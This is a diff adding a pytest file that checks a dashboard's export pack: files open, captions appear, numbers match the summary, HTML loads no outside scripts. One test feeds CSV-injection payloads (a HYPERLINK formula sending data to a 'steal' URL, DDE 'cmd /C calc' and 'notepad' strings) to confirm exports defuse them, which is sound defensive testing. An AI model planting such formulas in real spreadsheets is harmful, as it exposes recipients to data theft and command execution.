@@ -1,0 +1,243 @@
+"""Downloads and the report pack: every file opens, carries its caption, and its numbers are the
+numbers of `summary --json` for the same filters; nothing in a spreadsheet can run."""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import json
+import xml.etree.ElementTree as ET
+from html.parser import HTMLParser
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from PIL import Image
+
+from dashboard import cli, render
+from dashboard.exports import FORMULA_STARTS, csv_bytes, defuse, xlsx_bytes
+from tests.test_consultation import EXAMPLE
+
+CONSULTATION = "civic-space-2020"
+FILTERS = ["--region", "Africa", "--language", "fr", "--language", "en"]
+
+
+def run(*argv: str) -> str:
+    out = io.StringIO()
+    with contextlib.redirect_stdout(out):
+        assert cli.main(list(argv)) == 0
+    return out.getvalue()
+
+
+@pytest.fixture(scope="module")
+def pack(sample_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("pack")
+    run(
+        "export",
+        "--consultation",
+        CONSULTATION,
+        "--db",
+        str(sample_db),
+        "--out",
+        str(folder),
+        *FILTERS,
+    )
+    return folder
+
+
+@pytest.fixture(scope="module")
+def expected(sample_db: Path) -> dict:
+    return json.loads(
+        run("summary", "--consultation", CONSULTATION, "--db", str(sample_db), *FILTERS)
+    )
+
+
+def read_csv(path: Path) -> tuple[pd.DataFrame, list[str]]:
+    """The table above the blank row, and the footer lines under it."""
+    text = path.read_bytes()
+    assert text.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
+    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
+    blank = rows.index([])
+    table = pd.DataFrame(rows[1:blank], columns=rows[0])
+    return table, [r[0] for r in rows[blank + 1 :]]
+
+
+def read_xlsx(path: Path) -> tuple[pd.DataFrame, list[str]]:
+    sheet = openpyxl.load_workbook(path).active
+    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
+    blank = next(i for i, r in enumerate(rows) if all(v is None for v in r))
+    return pd.DataFrame(rows[1:blank], columns=rows[0]), [r[0] for r in rows[blank + 1 :]]
+
+
+def test_the_pack_has_every_kind_of_file(pack: Path) -> None:
+    names = {p.relative_to(pack).as_posix() for p in pack.rglob("*") if p.is_file()}
+    assert {"methodology.md", "answers.csv", "answers.xlsx"} <= names
+    charts = {n for n in names if n.startswith("charts/")}
+    tables = {n for n in names if n.startswith("tables/")}
+    assert len(charts) >= 20 and len(tables) >= 24
+    for chart in charts:
+        stem = chart.rsplit(".", 1)[0].replace("charts/", "tables/")
+        assert f"{stem}.csv" in tables and f"{stem}.xlsx" in tables
+
+
+def test_every_png_decodes_at_print_size(pack: Path) -> None:
+    for path in (pack / "charts").glob("*.png"):
+        with Image.open(path) as image:
+            image.load()
+            assert image.width == render.PRINT_WIDTH * render.PRINT_SCALE, path.name
+            assert image.height >= 2 * 300
+
+
+def test_every_svg_parses_and_carries_its_caption(pack: Path) -> None:
+    for path in (pack / "charts").glob("*.svg"):
+        root = ET.fromstring(path.read_bytes())
+        assert root.tag.endswith("svg")
+        text = " ".join(t for t in root.itertext())
+        assert "Online consultation on civil society space" in text, path.name
+        assert "Filters: region: Africa; language: fr, en" in text, path.name
+
+
+def test_region_table_agrees_with_the_summary(pack: Path, expected: dict) -> None:
+    for reader, suffix in ((read_csv, "csv"), (read_xlsx, "xlsx")):
+        table, footer = reader(pack / "tables" / f"respondents-by-region.{suffix}")
+        by_region = {
+            r["Region (M49)"]: (int(r["Respondents"]), int(r["Responses"]))
+            for _, r in table.iterrows()
+        }
+        assert by_region == {
+            k: (v["respondents"], v["responses"]) for k, v in expected["by_region"].items()
+        }
+        assert any("Filters: region: Africa" in line for line in footer)
+        assert any(line.startswith("Made ") for line in footer)
+
+
+@pytest.mark.parametrize(
+    ("slug", "key", "label", "breakdown"),
+    [
+        ("respondents-and-responses-by-theme", "Theme", None, "by_theme"),
+        ("responses-per-day", "Day (UTC)", None, "by_day"),
+        ("against-the-window", "Against the window", None, "window"),
+    ],
+)
+def test_tables_agree_with_the_summary(pack, expected, slug, key, label, breakdown) -> None:
+    table, _ = read_csv(pack / "tables" / f"{slug}.csv")
+    assert table["Respondents"].astype(int).sum() == (
+        expected["respondents"]
+        if breakdown != "by_theme"
+        else sum(v["respondents"] for v in expected["by_theme"].values())
+    )
+    assert table["Responses"].astype(int).sum() == expected["responses"]
+    if breakdown == "by_day":
+        got = dict(zip(table[key], table["Responses"].astype(int), strict=True))
+        assert got == {k: v["responses"] for k, v in expected["by_day"].items() if v["responses"]}
+
+
+def test_answers_match_the_filters(pack: Path, expected: dict) -> None:
+    table, footer = read_csv(pack / "answers.csv")
+    assert len(table) == expected["responses"]
+    assert footer[0].startswith("Answers matching the filters.")
+    assert set(table["Region (M49)"]) == {"Africa"}
+    assert set(table["Language"]) == {"French (fr)", "English (en)"}
+    assert "Respondent ID" not in table.columns and "respondent_id" not in table.columns
+    workbook, _ = read_xlsx(pack / "answers.xlsx")
+    assert len(workbook) == len(table)
+
+
+def test_methodology_note(pack: Path, expected: dict) -> None:
+    note = (pack / "methodology.md").read_text(encoding="utf-8")
+    assert f"Respondents: {expected['respondents']:,}" in note
+    assert "region: Africa; language: fr, en" in note
+    assert "responses_en.csv" in note and "reponses_fr.csv" in note
+    assert "k = 5" in note
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("x")'])
+def test_defuse_makes_formula_starts_text(text: str) -> None:
+    assert defuse(text) == "'" + text
+    assert defuse("plain") == "plain" and defuse(-2) == -2
+
+
+def test_no_exported_cell_is_a_formula(tmp_path: Path) -> None:
+    db = tmp_path / "store.duckdb"
+    definition = tmp_path / "c.toml"
+    definition.write_text(EXAMPLE, encoding="utf-8")
+    run("consultation", "add", str(definition), "--db", str(db))
+    hostile = [
+        '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click")',
+        "+1",
+        "-2",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=cmd|' /C notepad'!'A1'",
+    ]
+    export = tmp_path / "hostile.csv"
+    with export.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["Respondent ID", "Submitted at", "Country", "Q1"])
+        for number, answer in enumerate(hostile):
+            writer.writerow(
+                [f"H{number}", "2020-01-14T10:00:00Z", "=1+2" if number == 0 else "FR", answer]
+            )
+    run("import", "--consultation", CONSULTATION, "--db", str(db), str(export))
+    out = tmp_path / "out"
+    run("export", "--consultation", CONSULTATION, "--db", str(db), "--out", str(out))
+    answers, _ = read_csv(out / "answers.csv")
+    assert sorted(a.lstrip("'") for a in answers["Answer"]) == sorted(hostile)
+    for path in out.rglob("*.csv"):
+        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
+            for cell in row:
+                assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
+    for path in out.rglob("*.xlsx"):
+        for row in openpyxl.load_workbook(path).active.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
+    # In the workbook the answers keep their exact text (shown as text, not run).
+    workbook, _ = read_xlsx(out / "answers.xlsx")
+    assert sorted(workbook["Answer"]) == sorted(hostile)
+
+
+def test_csv_and_xlsx_round_trip_every_script() -> None:
+    frame = pd.DataFrame(
+        {"Pays": ["Côte d’Ivoire", "مصر", "中国", "Россия"], "Respondents": [1, 2, 3, 4]}
+    )
+    table, footer = read_csv_bytes(csv_bytes(frame, ["note: ok"]))
+    assert table["Pays"].tolist() == frame["Pays"].tolist()
+    assert footer == ["note: ok"]
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, ["note: ok"])))
+    values = [row for row in book.active.iter_rows(values_only=True)]
+    assert values[1] == ("Côte d’Ivoire", 1) and values[-1][0] == "note: ok"
+
+
+def read_csv_bytes(content: bytes) -> tuple[pd.DataFrame, list[str]]:
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    blank = rows.index([])
+    return pd.DataFrame(rows[1:blank], columns=rows[0]), [r[0] for r in rows[blank + 1 :]]
+
+
+class _Scripts(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.sources: list[str] = []
+        self.inline = 0
+
+    def handle_starttag(self, tag, attrs) -> None:
+        if tag == "script":
+            source = dict(attrs).get("src")
+            if source:
+                self.sources.append(source)
+            else:
+                self.inline += 1
+
+
+def test_interactive_html_is_self_contained(pack: Path) -> None:
+    from dashboard import charts
+
+    frame = pd.DataFrame(
+        {"iso3": ["SEN", "FRA"], "country": ["Senegal", "France"], "respondents": [5, 7]}
+    )
+    page = render.html(charts.world_map(frame, title="Respondents by country"), "Map").decode()
+    parser = _Scripts()
+    parser.feed(page)
+    assert parser.sources == []  # no script loaded from anywhere
+    assert parser.inline >= 2 and "PlotlyGeoAssets" in page and '"world_110m"' in page
